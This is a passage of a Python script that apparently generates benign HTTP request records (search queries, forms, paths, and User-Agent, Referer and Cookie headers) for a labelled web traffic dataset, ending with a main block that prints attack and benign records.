        yield rec(t.query(term), "search", "query")
        yield rec(t.admin_search(term), "adminsearch", "form")
        if i % 3 == 0:
            yield rec(t.settings_form(t.rng.choice(SETTINGS_FIELDS), term), "settings", "form")
    for seg in PATH_SEGMENTS:
        yield rec(t.path(seg), "path", "path")
    for ua in BENIGN_UAS:
        req, placement = t.header(ua, "User-Agent")
        yield rec(req, "ua", placement)
    for ref in BENIGN_REFERERS:
        req, placement = t.header(ref, "Referer")
        yield rec(req, "referer", placement)
    for value in BENIGN_COOKIES:
        req = t.query(t.rng.choice(["", "ann", "lee"]))
        req["headers"]["Cookie"] += f"; {t.rng.choice(COOKIE_NAMES)}={value}"
        yield rec(req, "cookie", "cookie")


if __name__ == "__main__":
    print_records(attacks(), benign())
